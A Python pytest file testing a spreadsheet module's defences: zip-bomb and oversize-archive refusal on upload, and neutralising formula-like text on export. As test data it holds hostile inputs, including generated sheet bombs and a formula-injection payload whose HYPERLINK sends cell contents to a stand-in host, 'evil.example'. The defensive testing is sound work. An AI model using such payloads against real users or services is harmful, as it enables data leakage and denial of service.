"""Hostile uploads and poisoned exports: every limit of `read_sheet` refuses its bomb (the big
ones before openpyxl is even called), and `write_sheet` writes whatever is stored as text.

Refusal times are printed (``pytest -s``), not asserted: what is asserted is structural, that
openpyxl's loader never runs for a bomb the archive already gives away.
"""

from __future__ import annotations

import io
import random
import re
import struct
import time
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from shared import workbooks
from shared.errors import InvalidInput
from shared.testing.workbooks import SHEET, sheet_bomb, xlsx
from shared.workbooks import (
    MAX_CELLS,
    MAX_COLUMNS,
    MAX_MEMBERS,
    MAX_PART_ELEMENTS,
    MAX_SHEET_ROWS,
    MAX_UNPACKED_BYTES,
    REPLACEMENT,
    Column,
    WorkbookTooLarge,
    export_cell,
    read_sheet,
    text,
    write_sheet,
)

MiB = 1_048_576
COLUMNS = (Column("code", "编码", text(32)), Column("name", "名称", text(), required=False))
HEADER = ("编码", "名称")


@pytest.fixture
def loads(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    """Every call of openpyxl's loader made by `read_sheet` (it still loads)."""
    calls: list[object] = []
    real = workbooks.load_workbook

    def spy(*args: Any, **kwargs: Any) -> Any:
        calls.append(args)
        return real(*args, **kwargs)

    monkeypatch.setattr(workbooks, "load_workbook", spy)
    return calls


def refused(data: bytes, label: str) -> InvalidInput:
    """The `InvalidInput` ``read_sheet`` raises for ``data`` (on ``file``); prints the time."""
    started = time.perf_counter()
    with pytest.raises(InvalidInput) as raised:
        read_sheet(data, COLUMNS)
    elapsed = time.perf_counter() - started
    print(f"\n{label}: {len(data):,} bytes refused in {elapsed * 1000:.1f} ms: {raised.value}")
    assert raised.value.field == "file"
    return raised.value


def rewrite(data: bytes, member: str, change: Callable[[bytes], bytes]) -> bytes:
    """``data`` with one member's content changed (deflated, as Excel writes it)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as copy:
        for info in source.infolist():
            content = source.read(info)
            copy.writestr(info.filename, change(content) if info.filename == member else content)
    return out.getvalue()


def in_sheet(xml: bytes, *, dimension: bytes | None = None) -> Callable[[bytes], bytes]:
    """A change adding ``xml`` at the end of the sheet data (and setting its dimension)."""

    def change(sheet: bytes) -> bytes:
        sheet = sheet.replace(b"</sheetData>", xml + b"</sheetData>")
        if dimension is not None:
            sheet = re.sub(rb"<dimension[^>]*>", b'<dimension ref="' + dimension + b'"/>', sheet)
        return sheet

    return change


def noise(count: int, template: bytes) -> bytes:
    """``template`` (with one %d) repeated ``count`` times with random numbers: XML that does
    not compress well, so no ratio limit catches it first."""
    rng = random.Random(count)
    return b"".join(template % rng.randrange(10**9) for _ in range(count))


# --- what the archive declares, and what it really unpacks to ----------------------------


@pytest.mark.parametrize("unpacked_mib", [50, 400])
def test_a_sheet_bomb_is_refused_before_openpyxl_opens_it(
    unpacked_mib: int, loads: list[object]
) -> None:
    bomb = sheet_bomb(unpacked_mib * MiB)
    assert len(bomb) < MiB  # fits every upload cap: the body cap does not save us

    problem = refused(bomb, f"{unpacked_mib} MiB sheet bomb")

    assert isinstance(problem, WorkbookTooLarge)
    assert "inflates more than 100 times" in problem.reason
    assert loads == []


def test_blank_cell_rows_bomb_is_refused_too(loads: list[object]) -> None:
    row = b'<row><c t="inlineStr"><is><t></t></is></c><c t="inlineStr"><is><t></t></is></c></row>'
    problem = refused(sheet_bomb(50 * MiB, row=row), "50 MiB of blank-cell rows")
    assert isinstance(problem, WorkbookTooLarge)
    assert loads == []


def test_more_declared_bytes_than_the_budget_are_refused_without_inflating_any(
    loads: list[object], monkeypatch: pytest.MonkeyPatch
) -> None:
    # Random bytes do not compress: the ratio is fine, the declared total is not.
    big = rewrite(xlsx(HEADER), "docProps/app.xml", lambda _: random.randbytes(MAX_UNPACKED_BYTES))
    inflated: list[str] = []
    monkeypatch.setattr(workbooks, "_copy", lambda _s, _t, info, _c: inflated.append(info))

    problem = refused(big, "21 MiB declared")

    assert isinstance(problem, WorkbookTooLarge)
    assert "20 MiB" in problem.reason
    assert inflated == []
    assert loads == []


def test_too_many_members_are_refused(loads: list[object]) -> None:
    crowded = io.BytesIO()
    with zipfile.ZipFile(crowded, "w") as archive:
        for number in range(MAX_MEMBERS + 1):
            archive.writestr(f"xl/media/{number}.txt", b"")
    problem = refused(crowded.getvalue(), "crowded archive")
    assert isinstance(problem, WorkbookTooLarge)
    assert loads == []


def declare_size(data: bytes, member: str, size: int, crc: int) -> bytes:
    """``data`` whose central directory claims ``member`` is ``size`` bytes with ``crc``."""
    name = member.encode()
    entry = data.rindex(b"PK\x01\x02", 0, data.index(name, data.index(b"PK\x01\x02")) + 1)
    assert data[entry + 46 : entry + 46 + len(name)] == name
    return (
        data[: entry + 16]
        + struct.pack("<I", crc)
        + data[entry + 20 : entry + 24]
        + (struct.pack("<I", size) + data[entry + 28 :])
    )


def test_a_member_lying_about_its_size_never_inflates_past_what_it_declares(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    bomb = sheet_bomb(50 * MiB)
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive, archive.open(SHEET) as sheet:
        head = sheet.read(1024)
    liar = declare_size(bomb, SHEET, 1024, zlib.crc32(head))  # even the checksum agrees
    assert zipfile.ZipFile(io.BytesIO(liar)).getinfo(SHEET).file_size == 1024
    inflated = 0
    real_read = zipfile.ZipExtFile.read

    def counting(self: zipfile.ZipExtFile, n: int = -1) -> bytes:
        nonlocal inflated
        chunk = real_read(self, n)
        inflated += len(chunk)
        return chunk

    monkeypatch.setattr(zipfile.ZipExtFile, "read", counting)

    refused(liar, "sheet declaring 1 KiB, inflating to 50 MiB")

    assert inflated < MiB


# --- what the XML holds -------------------------------------------------------------------


def test_too_many_rows_are_counted_before_openpyxl_opens_the_sheet(loads: list[object]) -> None:
    rows = b"".join(b'<row r="%d"/>' % number for number in range(2, MAX_SHEET_ROWS + 3))
    problem = refused(rewrite(xlsx(HEADER), SHEET, in_sheet(rows)), "too many <row>")
    assert f"{MAX_SHEET_ROWS:,} rows" in problem.reason
    assert loads == []


def test_too_many_cells_are_counted_before_openpyxl_opens_the_sheet(loads: list[object]) -> None:
    row = b'<row r="2">' + b"<c/>" * (MAX_CELLS + 1) + b"</row>"
    problem = refused(rewrite(xlsx(HEADER), SHEET, in_sheet(row)), "one row of 100,001 cells")
    assert f"{MAX_CELLS:,} cells" in problem.reason
    assert loads == []


def test_too_many_elements_of_any_kind_are_refused(loads: list[object]) -> None:
    junk = noise(workbooks.MAX_ELEMENTS, b'<extLst a="%d"/>')
    problem = refused(rewrite(xlsx(HEADER), SHEET, in_sheet(junk)), "250,000 unknown elements")
    assert "XML elements" in problem.reason
    assert loads == []


def test_a_bloated_structure_part_is_refused(loads: list[object]) -> None:
    styles = noise(MAX_PART_ELEMENTS, b'<xf numFmtId="%d" fontId="0" fillId="0" borderId="0"/>')
    bloated = rewrite(
        xlsx(HEADER),
        "xl/styles.xml",
        lambda xml: xml.replace(b"</cellXfs>", styles + b"</cellXfs>"),
    )
    problem = refused(bloated, "50,000 cell styles")
    assert "xl/styles.xml" in problem.reason
    assert loads == []


def test_a_tiny_sheet_reaching_the_last_row_and_column_is_refused_at_the_row_bound() -> None:
    # 5 KB: before, openpyxl padded a million rows to 16,384 cells each (about 13 minutes).
    tiny = rewrite(xlsx(HEADER), SHEET, in_sheet(b'<row r="1048576"/>', dimension=b"A1:XFD1048576"))
    problem = refused(tiny, "row 1,048,576 in an A1:XFD1048576 sheet")
    assert f"past row {MAX_SHEET_ROWS:,}" in problem.reason


def test_a_value_past_the_last_column_read_is_refused() -> None:
    last = ["x"] * MAX_COLUMNS
    assert read_sheet(xlsx(HEADER, last), COLUMNS)[0].values == {"code": "x", "name": "x"}
    problem = refused(xlsx(HEADER, [*last, "y"]), "101 columns")
    assert f"at most {MAX_COLUMNS} columns" in problem.reason


def test_the_declared_dimension_neither_hides_rows_nor_pads_them() -> None:
    data = xlsx(HEADER, ("a", "甲"), ("b", "乙"))
    small = rewrite(data, SHEET, in_sheet(b"", dimension=b"A2:A2"))
    assert [row.values["code"] for row in read_sheet(small, COLUMNS)] == ["a", "b"]


@pytest.mark.parametrize(
    ("label", "damage"),
    [
        ("a DTD", lambda data: rewrite(data, SHEET, lambda x: DTD + x)),
        ("broken XML", lambda data: rewrite(data, "[Content_Types].xml", lambda x: x[:-9])),
        ("broken sheet XML", lambda data: rewrite(data, SHEET, lambda x: x[:-40])),
        ("bzip2 members", lambda data: recompress(data, zipfile.ZIP_BZIP2)),
        ("a member twice", lambda data: duplicate(data, SHEET)),
        ("no zip at all", lambda _: b"PK\x03\x04 not really"),
    ],
)
def test_a_damaged_archive_is_not_a_workbook_never_a_crash(
    label: str, damage: Callable[[bytes], bytes]
) -> None:
    problem = refused(damage(xlsx(HEADER, ("a", "甲"))), label)
    assert "not a valid .xlsx" in problem.reason


DTD = b'<!DOCTYPE w [<!ENTITY a "b">]>'


def recompress(data: bytes, method: int) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as copy:
        for info in source.infolist():
            copy.writestr(info.filename, source.read(info))
    return out.getvalue()


def duplicate(data: bytes, member: str) -> bytes:
    out = io.BytesIO(data)
    with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as archive:
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name
        archive.writestr(member, b"<worksheet/>")
    return out.getvalue()


def test_a_real_import_sized_workbook_still_reads() -> None:
    rows = [(f"G{number:04d}", f"东风村{number}") for number in range(workbooks.MAX_ROWS)]
    assert len(read_sheet(xlsx(HEADER, *rows), COLUMNS)) == workbooks.MAX_ROWS


# --- exports ------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "=SUM(1)",
    "+86 138 0000 0000",
    "-1号楼",
    "@cmd",
    "\t=1+1",
    "\r=1+1",
]


def exported(values: list[Any]) -> Iterator[Any]:
    """The cells of column 名称 in ``write_sheet``'s file for ``values``, opened fully."""
    data = write_sheet(COLUMNS, [{"code": f"c{n}", "name": v} for n, v in enumerate(values)])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    return (row[1] for row in sheet.iter_rows(min_row=2))


def test_text_that_looks_like_a_formula_is_written_as_quote_prefixed_text() -> None:
    for value, cell in zip(FORMULAS, exported(FORMULAS), strict=True):
        assert cell.data_type == "s", value
        assert cell.value == value.replace("\r", "\n")  # XML reads every CR as LF
        assert cell.quotePrefix, value
    data = write_sheet(COLUMNS, [{"code": "=1", "name": FORMULAS[0]}])
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read(SHEET)


def test_ordinary_text_and_error_lookalikes_stay_plain_text() -> None:
    plain, error = exported(["东风村", "#N/A"])
    assert (plain.data_type, plain.value, plain.quotePrefix) == ("s", "东风村", False)
    assert (error.data_type, error.value) == ("s", "#N/A")


def test_formula_like_text_imports_back_unchanged() -> None:
    names = ["-1号楼", "=SUM(1)", "@cmd", "+86 138", '=HYPERLINK("x","点击")']
    data = write_sheet(COLUMNS, [{"code": f"c{n}", "name": v} for n, v in enumerate(names)])
    assert [row.values["name"] for row in read_sheet(data, COLUMNS)] == names


@pytest.mark.parametrize("poison", ["\x00", "\x0b", "\x1e", "\ud800", "\uffff"])
def test_characters_an_xlsx_cannot_hold_are_replaced_not_fatal(poison: str) -> None:
    first, second = exported([f"东{poison}风村", "西风村"])
    assert first.value == f"东{REPLACEMENT}风村"
    assert second.value == "西风村"


def test_export_cell_serves_ordinary_worksheets_too() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([export_cell(sheet, "=1+1"), export_cell(sheet, 3), export_cell(sheet, "a\x00")])
    buffer = io.BytesIO()
    book.save(buffer)
    again = load_workbook(buffer).active
    assert again is not None
    formula, number, poisoned = next(again.iter_rows())
    assert (formula.data_type, formula.value, formula.quotePrefix) == ("s", "=1+1", True)
    assert (number.data_type, number.value) == ("n", 3)
    assert poisoned.value == f"a{REPLACEMENT}"
